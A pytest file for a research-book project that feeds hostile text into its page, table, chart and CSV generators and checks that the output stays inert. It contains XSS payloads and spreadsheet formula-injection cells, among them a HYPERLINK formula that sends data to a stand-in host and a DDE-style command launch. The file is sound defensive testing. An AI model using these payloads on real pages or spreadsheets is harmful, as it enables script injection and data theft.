"""No markup from data reaches a page: each test is an attack with a hostile model table, a
hostile profile or file name, or a hostile chart label, and the pages it produces are rendered
with the book's own parser settings (MyST with colon fences and dollar maths, sphinx-design) in
one small Sphinx build, then searched for any element or event handler the data brought in.

Also here: CSV downloads that a spreadsheet would run as formulas, and build-machine paths on a
published page.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

import rehearsal
from humanalign import escape, pages, plots, registry, study, tables
from humanalign.registry import ModelSpec
from humanalign.study import glue
from humanalign.study.verdicts.rules import Verdict
from humanalign.study.verdicts.scale import scale_comparisons, scale_verdict_from

# What a careless or hostile user writes into a model table, a file name or a label.
HOSTILE = {
    "img-onerror": '<img src=x onerror="alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "backticks": "x`` <img src=x onerror=alert(2)> ``y",
    "roles": "{raw}`html <script>alert(3)</script>` {doc}`x <index>`",
    "link": "[click](javascript:alert(4)) <javascript:alert(5)>",
    "entities": "&lt;script&gt;alert(6)&lt;/script&gt;",
    "blocks": "# title\n:::{raw} html\n<script>alert(7)</script>\n:::\n```{raw} html\n<b>x</b>\n```",
    "maths": r"$\href{javascript:alert(8)}{x}$ $$y$$",
    "comment-script": "<!--<script>alert(9)</script>",
    "table-cell": "a | <b>b</b> | c",
}
# Elements that data must never bring into a page's body (the theme's own icons are <svg> without handlers).
_FORBIDDEN = {"script", "img", "iframe", "object", "embed", "style", "link", "meta", "form", "input", "b"}


# --------------------------------------------------------------------------- the attacks' pages


def _spec(model_id: str, family: str, precision: str, params: int) -> ModelSpec:
    source, arch, tag = model_id.split("/")[0], model_id.split("/")[1].rsplit(".", 1)[0], model_id.rsplit(".", 1)[1]
    return ModelSpec(id=model_id, source=source, arch=arch, tag=tag, family=family, params=params, imagenet_top1=None,
                     top1_source="", objective="supervised softmax", training_data="ImageNet-1k",
                     penultimate="fc", logits="", public=True, precision=precision)


def _scale_verdict(family: str, precision: str) -> Verdict:
    """The scale verdict over models whose family and precision are hostile text (rows that
    bypass the registry's checks, as a table read by an older version would)."""
    specs = [_spec("timm/a.x", family, precision, 10**6), _spec("timm/b.x", family, precision, 10**7),
             _spec("timm/c.x", "plain", precision, 10**6)]
    rng = np.random.default_rng(0)
    point = np.array([0.40, 0.41, 0.45])
    table = scale_comparisons(point, point + 0.01 * rng.normal(size=(200, 3)), specs, margin=0.02)
    return scale_verdict_from(table, 0.02, "the gap")


def _glued(prefix: str, verdict: Verdict, monkeypatch) -> dict:
    captured = {}
    monkeypatch.setattr(glue, "glue_values", lambda p, values: captured.update(values))
    study.glue_verdict(prefix, verdict)
    return captured


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """Every attack's MyST, each on its own page, built once: page name -> (HTML body, hostile text)."""
    monkeypatch = pytest.MonkeyPatch()
    pages_myst: dict[str, tuple[str, str]] = {}
    try:
        for name, text in HOSTILE.items():
            glued = _glued("scale", _scale_verdict(text, text), monkeypatch)
            body = "\n\n".join(str(v) for v in glued.values() if isinstance(v, str))
            pages_myst[f"verdict-{name}"] = (body, text)
            labels = Verdict("undecided", f"because {text}", {"estimate": 0.1, "ci_low": -0.1, "ci_high": 0.2},
                             {"unit": text, "data": text})
            claims = study.claims_markdown(study.claims_table({"scale": labels}))
            pages_myst[f"claims-{name}"] = (claims + "\n\n" + study.verdict_box(labels), text)
            profile = Path("/home/builder/secret") / f"my{text.splitlines()[0]}.yml"
            pages_myst[f"rerun-{name}"] = (pages.rerun_box("01_scale.py", profile, root="/elsewhere"), text)
            pages_myst[f"code-{name}"] = (f"The best model is {escape.code('timm/' + text)} here.", text)
            cells = pd.DataFrame({"model": [text], "value": [0.5]})
            pages_myst[f"table-{name}"] = (tables.journal_table(cells, {"model": "Model", "value": "Value"},
                                                                caption=text).to_markdown(), text)
    finally:
        monkeypatch.undo()
    from sphinx.application import Sphinx

    src = tmp_path_factory.mktemp("pages")
    (src / "conf.py").write_text('extensions = ["myst_parser", "sphinx_design"]\n'
                                 'myst_enable_extensions = ["colon_fence", "dollarmath"]\n'
                                 'suppress_warnings = ["toc.not_included", "myst.header"]\n')
    (src / "index.md").write_text("# Index\n")
    for name, (text, _) in pages_myst.items():
        (src / f"{name}.md").write_text(f"# {name}\n\n{text}\n")
    out = src / "_build"
    warnings = io.StringIO()
    Sphinx(str(src), str(src), str(out), str(out / ".doctrees"), "html", status=io.StringIO(), warning=warnings,
           freshenv=True).build()
    return {name: (_body((out / f"{name}.html").read_text()), text) for name, (_, text) in pages_myst.items()}


class _Elements(HTMLParser):
    """The start tags of a page's main body, with their attributes."""

    def __init__(self):
        super().__init__()
        self.inside, self.depth, self.tags = False, 0, []

    def handle_starttag(self, tag, attrs):
        if dict(attrs).get("role") == "main":
            self.inside = True
        if self.inside:
            self.tags.append((tag, dict(attrs)))


def _body(page: str) -> str:
    return page.split('role="main"', 1)[1].split('<div class="sphinxsidebar"', 1)[0]


def _assert_inert(body: str, where: str) -> None:
    parser = _Elements()
    parser.feed('<div role="main"' + body)
    for tag, attrs in parser.tags:
        assert tag not in _FORBIDDEN, f"{where}: a <{tag}> element came from the data"
        handlers = [a for a in attrs if a.lower().startswith("on")]
        assert not handlers, f"{where}: <{tag}> carries {handlers}"
        assert not any(str(v).strip().lower().startswith("javascript:") for v in attrs.values()), (where, tag, attrs)
    assert "alert(" not in "".join(re.findall(r"<script[^>]*>(.*?)</script>", body, re.S)), where


@pytest.mark.parametrize("kind", ["verdict", "claims", "rerun", "code", "table"])
@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_text_is_shown_as_text_never_run(rendered, kind, name):
    body, text = rendered[f"{kind}-{name}"]
    _assert_inert(body, f"{kind}-{name}")
    # The reader sees the text itself, not a trace of markup eaten by the parser (compared on
    # letters and digits: the typesetting may turn "--" into a dash or quotes into curly ones).
    def core(value: str) -> str:
        return re.sub(r"[^A-Za-z0-9]", "", value)

    shown = core(html.unescape(re.sub(r"<[^>]+>", " ", body)))
    if kind != "rerun":  # the rerun box shows only the profile file's name
        assert core(escape.one_line(text)) in shown, (kind, name, shown[:500])


def test_a_verdict_built_from_hostile_rows_keeps_its_words(monkeypatch):
    verdict = _scale_verdict("Res<Net>", "float32")
    glued = _glued("scale", verdict, monkeypatch)
    assert "Res\\<Net\\>" in glued["reason"] and "<Net>" not in glued["reason"].replace("\\<Net\\>", "")
    # A claim of two halves is glued with each half named.
    assert glued["verdict"] == f"**{study.verdict_words(verdict)}**" == "**size: undecided; architecture: undecided**"
    # An ordinary reason reads the same in the source as before: only markup characters are escaped.
    plain = Verdict("reproduced", "slope of vit_base_patch16_224 within the margin", {}, {"unit": "concepts"})
    values = _glued("p", plain, monkeypatch)
    assert values["reason"] == plain.reason and values["unit"] == "concepts"


# --------------------------------------------------------------------------- model tables and profiles


def _extra_table(tmp_path: Path, monkeypatch, column: str, value: str) -> Path:
    path = rehearsal.write_model_table(tmp_path / "my_models.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    if column not in rows[0]:  # an optional column the rehearsal's table leaves out
        rows = [row + [column if i == 0 else ""] for i, row in enumerate(rows)]
    rows[1][rows[0].index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    monkeypatch.setenv(registry.EXTRA_MODELS_ENV, str(path))
    return path


@pytest.mark.parametrize("column, value", [
    ("family", HOSTILE["img-onerror"]), ("family", HOSTILE["roles"]), ("precision", HOSTILE["svg-onload"]),
    ("precision", "float32 `x`"), ("builder", "a|b"), ("penultimate", "fc\u202e"), ("family", "two\nlines"),
    ("note", HOSTILE["comment-script"]), ("objective_detail", "{doc}`x`"), ("weights_url", "https://x/<y>"),
])
def test_an_extra_model_table_with_markup_in_a_text_field_is_refused(tmp_path, monkeypatch, column, value):
    path = _extra_table(tmp_path, monkeypatch, column, value)
    with pytest.raises(ValueError) as err:
        registry.list_models()
    message = str(err.value)
    # (the csv module counts the line where a quoted field with a line break ends)
    assert "\n" not in message and str(path) in message and re.search(r"line [23]\b", message)
    assert f"{column} {value[:80]!r}" in message and "no use for" in message


@pytest.mark.parametrize("model_id", ["untrained/x`y.z", "untrained/<img>.z", "untrained/a.b c", "untrained/x{y}.z"])
def test_a_model_id_with_markup_is_refused(tmp_path, monkeypatch, model_id):
    path = _extra_table(tmp_path, monkeypatch, "id", model_id)
    with pytest.raises(ValueError) as err:
        registry.list_models()
    assert str(path) in str(err.value) and repr(model_id) in str(err.value) and "\n" not in str(err.value)


def test_ordinary_extra_rows_still_load(tmp_path, monkeypatch):
    _extra_table(tmp_path, monkeypatch, "note", "first line\nsecond; see https://example.org/a?b=1&c=2#d [1]")
    assert registry.get_spec(rehearsal.REHEARSAL_MODELS[0]).note.startswith("first line")


@pytest.mark.parametrize("name", [HOSTILE["img-onerror"], "x`y", "a\u202eb", "{doc}`x`", "line\nbreak"])
def test_a_profile_name_with_markup_is_refused(tmp_path, name):
    path = tmp_path / "mine.yml"
    path.write_text(yaml.safe_dump({"profile": name, "models": ["x/y.z"]}), encoding="utf-8")
    with pytest.raises(ValueError) as err:
        study.load_profile(path, check_models=False, check_data=False)
    message = str(err.value)
    assert "\n" not in message and str(path) in message and "profile name" in message


def test_a_profile_file_named_with_markup_gets_a_plain_name(tmp_path):
    path = tmp_path / "x`<img src=x onerror=alert(1)>`.yml"
    path.write_text("models: [x/y.z]\n")
    params = study.read_profile_params(path)
    assert params["profile"] == "x-img-src-x-onerror-alert-1"
    assert study.load_profile(path, check_models=False, check_data=False).name == params["profile"]


# --------------------------------------------------------------------------- chart labels


@pytest.mark.parametrize("label", [HOSTILE["comment-script"], "</script><img src=x onerror=alert(1)>",
                                   "<script>alert(1)</script>", "a\u2028b\u2029c & <!-- x -->"])
def test_a_chart_label_cannot_end_or_swallow_the_charts_script(label):
    import altair as alt

    chart = alt.Chart(pd.DataFrame({"x": [1], "label": [label]})).mark_point().encode(x="x:Q", tooltip="label:N")
    page = plots.offline_html(chart, element_id="c1") + '\n<p id="after">the rest of the page</p>'
    script = page.split('<script type="text/javascript">', 1)[1].split("</script>", 1)[0]
    # No "<" at all in the script: no "</script", "<!--" or "<script" that the browser would act on.
    assert "<" not in script and "\u2028" not in script and "\u2029" not in script
    assert page.count("</script>") == 1 and page.endswith('<p id="after">the rest of the page</p>')
    payload = script.split("var spec = ", 1)[1].split(";\n", 1)[0]
    import json

    assert label in json.dumps(json.loads(payload), ensure_ascii=False)
    with pytest.raises(ValueError, match="element_id"):
        plots.offline_html(chart, element_id='c1"><script>alert(1)</script>')


# --------------------------------------------------------------------------- CSV downloads


def _download(table: tables.JournalTable) -> str:
    payload = table.csv_link().split("base64,", 1)[1].split('"', 1)[0]
    return base64.b64decode(payload).decode("utf-8")


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1", "\uff1d1+1"])
def test_a_csv_download_never_hands_over_a_live_formula(cell):
    table = tables.journal_table(pd.DataFrame({"model": [cell, "plain/id.x"], "value": [-0.5, 0.25]}),
                                 {"model": "Model", "value": "Value"})
    text = _download(table)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["model", "value"], ["'" + cell, "-0.5"], ["plain/id.x", "0.25"]]
    # Every text cell is quoted (a separator or line break in it starts no new cell); numbers
    # stay numbers: a negative value is not a formula.
    assert text.splitlines()[-1] == '"plain/id.x",0.25'
    assert pd.read_csv(io.StringIO(text))["value"].tolist() == [-0.5, 0.25]


def test_csv_cell_leaves_numbers_and_plain_text_alone():
    assert [escape.csv_cell(v) for v in (-1.5, 3, "-0.25", "+1e-3", "timm/vit.x", "", None)] == \
        [-1.5, 3, "-0.25", "+1e-3", "timm/vit.x", "", None]


# --------------------------------------------------------------------------- paths on published pages


def test_the_rerun_box_names_a_profile_file_by_a_relative_path_or_its_name(tmp_path):
    inside = tmp_path / "profiles" / "mine.yml"
    box = pages.rerun_box("01_scale.py", inside, root=tmp_path)
    assert "-p profile profiles/mine.yml build/" in box and "(`profiles/mine.yml`)" in box
    outside = pages.rerun_box("01_scale.py", "/home/someone/secret/mine.yml", root=tmp_path)
    assert "/home/someone" not in outside and "-p profile mine.yml build/" in outside
    assert str(tmp_path) not in box
    # A line break in a file name keeps the command on one line.
    broken = pages.rerun_box("01_scale.py", "/x/a\n```\n<img src=x onerror=alert(1)>.yml", root=tmp_path)
    command = broken.split("```bash\n", 1)[1].split("\n```", 1)[0].splitlines()
    assert len(command) == 2 and command[1].startswith(".venv/bin/papermill -k python3 -p profile $'a\\x0a")


def test_an_open_chapter_passes_the_project_root(tmp_path, monkeypatch):
    (tmp_path / "notebooks").mkdir()
    (tmp_path / "book").mkdir()
    monkeypatch.chdir(tmp_path / "notebooks")
    assert glue._project_root() == tmp_path
    monkeypatch.chdir(tmp_path)
    assert glue._project_root() == tmp_path


# --------------------------------------------------------------------------- reader tables


def test_reader_table_hides_only_columns_that_bound_an_interval():
    df = pd.DataFrame({"model": ["a/b.c"], "zero_shot": [0.5], "ci_low": [0.4], "ci_high": [0.6],
                       "temperature_low": [3.0], "budget_high": [9.0], "gain": [0.1], "gain_low": [0.0],
                       "gain_high": [0.2], "note_low": ["text"], "note_high": ["text"], "note": [1.0]})
    shown = list(tables.reader_table(df).cells.columns)
    assert "Zero-shot accuracy (95 % CI)" in shown and "Gain (95 % CI)" in shown
    assert {"Temperature low", "Budget high", "Note low", "Note high"} <= set(shown)
    assert not {"Ci low", "Ci high", "Gain low", "Gain high"} & set(shown)
    # ci_low/ci_high with no column they could belong to bound nothing: shown.
    alone = pd.DataFrame({"model": ["a/b.c"], "ci_low": [0.4], "ci_high": [0.6]})
    assert list(tables.reader_table(alone).cells.columns) == ["Model", "Ci low", "Ci high"]
